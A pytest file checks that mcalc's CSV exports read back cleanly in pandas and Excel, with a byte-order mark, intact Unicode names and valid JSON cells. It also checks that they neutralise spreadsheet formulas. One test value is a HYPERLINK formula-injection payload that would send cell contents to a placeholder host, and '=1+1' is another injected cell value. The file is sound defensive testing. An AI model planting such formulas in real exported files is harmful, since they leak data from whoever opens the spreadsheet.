"""The CSV files mcalc writes for people, read back as a researcher reads them: pandas from
the bytes, a reader's name in any script intact, a formula typed as a comment kept as
text, a byte-order mark for Excel; JSON cells that json.loads reads."""

from __future__ import annotations

import codecs
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from mcalc.batch.table import COLUMNS, read_results, to_table, write_results
from mcalc.spreadsheet import json_cell
from mcalc.store import ImageMarks
from mcalc.store.audit import AuditStore, audit_table, record_verdict
from mcalc.store.exchange import audit_csv, masks_zip, points_csv, region_calls_csv
from mcalc.store.region_calls import RegionCall, calls_table

READER = "José Müller-Łukasz 李"
FORMULA = '=HYPERLINK("http://x.example/?"&A2,"see")'


def _audit_store(root: Path) -> None:
    record_verdict(
        root,
        model_id="m1",
        model_card={"architecture": "custom", "metrics": {"test": {"auc": 0.9}}},
        image_key="c-1/CC_recent",
        reader=READER,
        agree=False,
        comment=FORMULA + "\nsecond line, with a comma",
        score=0.25,
        regions=[RegionCall(1, (10.0, 20.0), 0.9, "calcification", (0, 20, 10, 30))],
    )


def _points(_: Path) -> bytes:
    marks = ImageMarks("c-1/CC_recent", READER).add_point(5, 6, "benign", FORMULA)
    return points_csv([marks]).encode("utf-8")


def _masks_index(_: Path) -> bytes:
    marks = ImageMarks("c-1/CC_recent", READER, image_shape=(20, 20)).add_point(5, 6)
    return zipfile.ZipFile(io.BytesIO(masks_zip([marks]))).read("index.csv")


def _audit(root: Path) -> bytes:
    _audit_store(root)
    return audit_csv(audit_table(root, "m1").table).encode("utf-8")


def _calls(root: Path) -> bytes:
    _audit_store(root)
    return region_calls_csv(calls_table(AuditStore(root).verdicts("m1"))).encode("utf-8")


def _results(root: Path) -> bytes:
    write_results(root, to_table([{"image_key": "c-1/CC_recent", "case_id": READER}]))
    return (root / "results.csv").read_bytes()


@pytest.mark.parametrize(
    ("make", "column"),
    [
        (_points, "reader"),
        (_masks_index, "reader"),
        (_audit, "reader"),
        (_calls, "reader"),
        (_results, "case_id"),
    ],
    ids=["points", "masks-index", "audit", "region-calls", "batch-results"],
)
def test_every_csv_reads_back_in_pandas_with_a_bom_for_excel(
    tmp_path: Path, make: Callable[[Path], bytes], column: str
) -> None:
    """Excel opens a UTF-8 CSV without a byte-order mark in the legacy code page: the
    reader's name read 'JosÃ© MÃ¼ller'. With it, pandas still reads the header as written."""
    data = make(tmp_path)
    assert data.startswith(codecs.BOM_UTF8)
    back = pd.read_csv(io.BytesIO(data))
    assert not back.columns[0].startswith("\ufeff")
    assert set(back[column]) == {READER}


def test_the_audit_csv_keeps_comments_as_text_and_its_model_card_as_json(
    tmp_path: Path,
) -> None:
    (row,) = pd.read_csv(io.BytesIO(_audit(tmp_path))).to_dict("records")
    assert row["comment"] == "'" + FORMULA + "\nsecond line, with a comma"  # OWASP's "'"
    assert json.loads(row["model_card"]) == {
        "architecture": "custom",
        "metrics": {"test": {"auc": 0.9}},
    }
    assert row["score"] == 0.25 and row["recorded_at"].endswith("Z")


def test_results_csv_reads_as_the_parquet_file(tmp_path: Path) -> None:
    """The two files of a batch run hold one table: the same columns in the same order;
    read back alone (no parquet), the CSV gives the parquet's rows, a case id a
    spreadsheet would run ('=...') included, as written (the "'" taken off)."""
    rows = [
        {"image_key": "=1+1/CC_recent", "case_id": "=1+1", "score": 0.5, "order": 0},
        {"image_key": "b/CC_recent", "case_id": READER, "error": "-bad file", "order": 1},
    ]
    write_results(tmp_path, to_table(rows))
    parquet = pd.read_parquet(tmp_path / "results.parquet")
    csv = pd.read_csv(tmp_path / "results.csv")
    assert list(csv.columns) == list(parquet.columns) == list(COLUMNS)
    from_parquet = read_results(tmp_path)
    (tmp_path / "results.parquet").unlink()
    pd.testing.assert_frame_equal(read_results(tmp_path), from_parquet)
    assert read_results(tmp_path)["case_id"].tolist() == ["=1+1", READER]


def test_a_json_cell_is_json_never_pythons_notation() -> None:
    value = {"auc": float("nan"), "n": np.int64(3), "box": (1, 2), "who": READER}
    text = json_cell(value)
    assert json.loads(text) == {"auc": None, "n": 3, "box": [1, 2], "who": READER}
    assert "'" not in text and "NaN" not in text
    with pytest.raises(TypeError):
        json_cell({"when": object()})
